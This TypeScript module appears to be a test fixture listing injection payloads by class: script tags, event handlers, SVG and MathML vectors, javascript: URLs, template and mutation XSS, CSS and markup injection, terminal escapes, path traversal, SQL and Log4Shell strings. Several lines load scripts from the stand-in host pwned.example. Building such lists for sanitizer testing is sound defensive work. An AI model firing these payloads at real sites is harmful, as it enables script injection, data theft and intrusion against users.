/** Texts that make a careless page run them, by what they try. Where one succeeds it calls pwned(), or makes an element with the id pwned. */
export interface PayloadClass {
  readonly name: string;
  readonly payloads: readonly string[];
}

const run = 'pwned()';
const encoded = '&#112;&#119;&#110;&#101;&#100;&#40;&#41;'; // pwned() as entities
const hex = String.raw`\x70wned()`;
const lines = (text: string): string[] => text.trim().split('\n').map((line) => line.trim().replaceAll('§', run));

const scripts = lines(`
<script>§</script>
<SCRIPT>§</SCRIPT>
<ScRiPt >§</sCrIpT >
<script type="text/javascript">§</script>
<script type=module>§</script>
<script id=pwned>§</script>
<script/x>§</script>
<script	>§</script	>
<script>§
</script><script>§</script>
--></script><script>§</script>
<scr<script>ipt>§</scr</script>ipt>
<script src=//pwned.example/x.js></script>
<script src="https://pwned.example/x.js" async></script>
<script src=data:text/javascript,§></script>
<script>window['pwn'+'ed']()</script>
<script>eval(atob('cHduZWQoKQ=='))</script>
<script>Function('pwned' + String.fromCharCode(40, 41))()</script>
<script>import('data:text/javascript,§')</script>
<noscript><p title="</noscript><script>§</script>">
<textarea></textarea><script>§</script>
<template id=pwned><script>§</script></template>
`);

const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onscroll', 'onwheel'];
const elements = ['img src=x', 'body', 'input autofocus', 'details open', 'video><source', 'audio src=x', 'select autofocus', 'marquee', 'x tabindex=1 autofocus', 'object data=x'];
const handlers = [
  ...events.map((event, i) => `<${elements[i] ?? 'b'} id=pwned ${event}=${run}>`),
  ...events.map((event, i) => `<${elements[(i + 3) % elements.length] ?? 'b'} ${event.toUpperCase()}="${encoded}">`),
  ...events.map((event, i) => `<${(elements[(i + 6) % elements.length] ?? 'b').replaceAll(' ', '/')}/${event}='${run}'/>`),
];

const vectors = lines(`
<svg onload=§>
<svg/onload=§//
<svg><script>§</script></svg>
<svg><script href="data:text/javascript,§"/></svg>
<svg><a xlink:href="javascript:§"><text x=20 y=20>look</text></a></svg>
<svg><animate onbegin=§ attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=§>
<svg><animate attributeName=href values=javascript:§ /><a id=pwned><text>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.§</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0icHduZWQiLz4=#pwned"/></svg>
<svg><image href=x onerror=§ />
<svg><style>*{background:url(//pwned.example/x)}</style></svg>
<svg><desc><script>§</script></desc></svg>
<math><mtext><img src=x onerror=§></mtext></math>
<math href="javascript:§">CLICK</math>
<math><maction actiontype="statusline#https://pwned.example" xlink:href="javascript:§">x</maction></math>
<math><annotation-xml encoding="text/html"><script>§</script></annotation-xml></math>
<svg><title><svg onload=§></title></svg>
`);

const addresses = lines(`
javascript:§
JaVaScRiPt:§
javascript://%0a§
java	script:§
javascript:javascript:§
javascript&colon;§
javascript&#58;§
&#106;avascript:§
vbscript:§
data:text/html,<script>§</script>
data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+
<a id=pwned href="javascript:§">look</a>
<a href="java&#10;script:§" autofocus>look</a>
<form action="javascript:§"><button id=pwned>go</button></form>
<button formaction="javascript:§" form=x>go</button>
<iframe src="javascript:§"></iframe>
[look](javascript:§)
![x](x"onerror="§)
https://pwned.example/?q=<script>§</script>
//pwned.example/%2f..
\\\\pwned.example\\share
/..//pwned.example
`);

const templates = lines(`
{{constructor.constructor('§')()}}
{{7*7}}{{§}}
{{$on.constructor('§')()}}
{{"a".constructor.prototype.charAt=[].join;$eval('§')}}
\${§}
\${{§}}
#{§}
<%= § %>
<%- § %>
{% § %}
{{{§}}}
{!! § !!}
[[§]]
@{§}
<div ng-app ng-csp><b ng-focus=$event.view.§ id=pwned tabindex=0>x</b></div>
<div v-html="'<img src=x onerror=§>'" id=pwned></div>
<div x-data x-init="§"></div>
{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=§>"}}
{"type":"script","props":{"children":"§"},"constructor":null}
<div id=pwned data-bind="html:'<script>§</script>'"></div>
`);

const mutations = lines(`
<noscript><style></noscript><img src=x onerror=§></style>
<style><style/><img src=x onerror=§>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">
<svg></p><style><a id="</style><img src=1 onerror=§>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>">
<!--<img src="--><img src=x onerror=§//">
<![CDATA[><img src=x onerror=§>]]>
<?xml version="1.0"?><?<img src=x onerror=§>
<xmp><p title="</xmp><svg/onload=§>">
<listing>&lt;img src=x onerror=§&gt;</listing>
<title></title><img src=x onerror=§>
<textarea><p title="</textarea><img src=x onerror=§>">
<iframe><p title="</iframe><img src=x onerror=§>">
<table><a id=pwned><td><svg onload=§></td></a></table>
<select><option><style></option></select><img src=x onerror=§></style>
<p id="\`><img src=x onerror=§>\`">
<img src="\`\` onerror=§">
<!DOCTYPE html><html><body onload=§>
&lt;img src=x onerror=§&gt;
&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;
`);

const breakers = lines(`
"><script>§</script>
'><script>§</script>
"/><img src=x onerror=§>
" onmouseover="§
' onfocus='§' autofocus='
\` onload=\`§
"autofocus onfocus=§ x="
" style="animation:x" onanimationstart="§
' accesskey='x' onclick='§
"></title><svg onload=§>
"></textarea><svg onload=§>
"></style><svg onload=§>
</bdi></li></ol><img src=x onerror=§>
</code></pre></div><img src=x onerror=§>
-->"><svg onload=§>
]]>"><svg onload=§>
";§;//
';§;//
\\";§;//
\`;§;//
</script><svg onload=§>
*/§/*
);§;(
};§;{
"}};§;//
`);

const styles = lines(`
<style>@import '//pwned.example/x.css';</style>
<link rel=stylesheet href=//pwned.example/x.css>
<div style="background:url(//pwned.example/x)" id=pwned>x</div>
<div style="width:expression(§)">x</div>
<div style="position:fixed;inset:0;background:red;z-index:9999" id=pwned>x</div>
<b style="-moz-binding:url(//pwned.example/x)">x</b>
red;}*{display:none}
url(javascript:§)
url('//pwned.example/x')
var(--x);background:url(//pwned.example/x)
</style><script>§</script>
#f00" onload="§
hsl(0 0% 0%);content:"§"
\\3c script\\3e §
`);

const markup = lines(`
<iframe src=//pwned.example></iframe>
<iframe srcdoc="<script>parent.§</script>"></iframe>
<embed src=//pwned.example/x.swf>
<object data="data:text/html,<script>§</script>"></object>
<base href=//pwned.example/>
<meta http-equiv=refresh content="0;url=//pwned.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=preload as=script href=//pwned.example/x.js>
<img id=pwned src=//pwned.example/x.png>
<form id=pwned action=//pwned.example><input name=token></form>
<input id=pwned name=attributes>
<a id=pwned name=location href=//pwned.example ping=//pwned.example>look</a>
<frameset onload=§><frame src=//pwned.example></frameset>
<dialog open id=pwned>Session expired. <input type=password></dialog>
<button popovertarget=pwned>x</button><div id=pwned popover>x</div>
<portal src=//pwned.example></portal>
<x-pwned is=pwned></x-pwned>
<slot id=pwned></slot>
<plaintext>
<h1 id=pwned>Delivered</h1>
`);

const unicode = [
  '＜script＞pwned()＜/script＞', '‹script›pwned()‹/script›', '˂img src=x onerror=pwned()˃', `\u202e>tpircs/<)(denwp>tpircs<`,
  `\u2066<b id=pwned>\u2069`, `abc\u202edcba\u202c`, `\u200f\u200e\u061cmixed עברית and العربية \u2067 x`, `a\u2028${run}\u2029b`, `zero\u200bwidth\u200d\u2060\ufeff`,
  `Z\u0351\u036b\u0343\u036a\u0302A\u0334\u0335\u031c\u0348\u034eL${'\u0351'.repeat(40)}G`, '👩‍👩‍👧‍👦'.repeat(20), `\ufff9a\ufffab\ufffb`, '\ue000\uf8ff\u{10ffff}', `tag\u{e0041}\u{e007f}`,
  '\ufffd\ufffe\uffff', 'ʼ;pwned();ʼ', `\u00a0\u2003\u3000`, '﷽'.repeat(8), 'ｊavascript:pwned()', '𝓹𝔀𝓷𝓮𝓭()', 'раураl.example', `\u0130\u0131\u017f\u212a`,
];

const controls = [
  `null\0byte`, `<scr\0ipt>${run}</scr\0ipt>`, `\0<img src=x onerror=${run}>`, `java\0script:${run}`, `bell\x07 backspace\x08 delete\x7f`, `form\ffeed vertical\vtab`, `carriage\rreturn`,
  `many\r\n\r\nlines\n\n\n\n`, `next\x85line \x9b31m`, `shift\x0e\x0f escape \x1b`, `\x00\x01\x02\x03\x04\x05\x06`, 'tab\tafter\ttab',
];

const terminal = [
  '\x1b[31mred\x1b[0m', '\x1b[2J\x1b[H cleared', '\x1b]0;title\x07', `\x1b]8;;javascript:${run}\x1b\\link\x1b]8;;\x1b\\`, '\x1b]52;c;cHduZWQ=\x07', '\x1bP$q"p\x1b\\', '\x1b[?1049h', '\x1b[6n',
  '\x9b31m8-bit', '\x1b]1337;File=name=eA==:eA==\x07', '\x1bc reset', '\x1b[8mhidden\x1b[28m', `\x1b[1;1H${'x'.repeat(80)}`, '%s%s%n%x', '$(touch pwned)', '`touch pwned`',
];

const names = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'constructor.prototype.polluted', '__proto__.polluted', 'length', 'then', 'toJSON', 'null', 'undefined',
  'NaN', 'true', '[object Object]', '-0', '1e999', '..', '../../../../etc/passwd', '%2e%2e%2f', '%00', '%', '?id=pwned#pwned', '#pwned', 'a&b=c', "'; DROP TABLE records;--", '${jndi:ldap://pwned.example/x}',
];

const lengths = [
  'l'.repeat(500), '長'.repeat(500), `${'<b>'.repeat(166)}`, `${'no break '.repeat(60)}`, 'ab\u0301'.repeat(166), `${hex} ${'&'.repeat(480)}`, `${'/'.repeat(500)}`, `${'\u202e'.repeat(500)}`, ' '.repeat(500), '\n'.repeat(500),
];

export const classes: readonly PayloadClass[] = Object.entries({
  scripts, handlers, vectors, addresses, templates, mutations, breakers, styles, markup, unicode, controls, terminal, names, lengths,
}).map(([name, payloads]) => ({ name, payloads }));
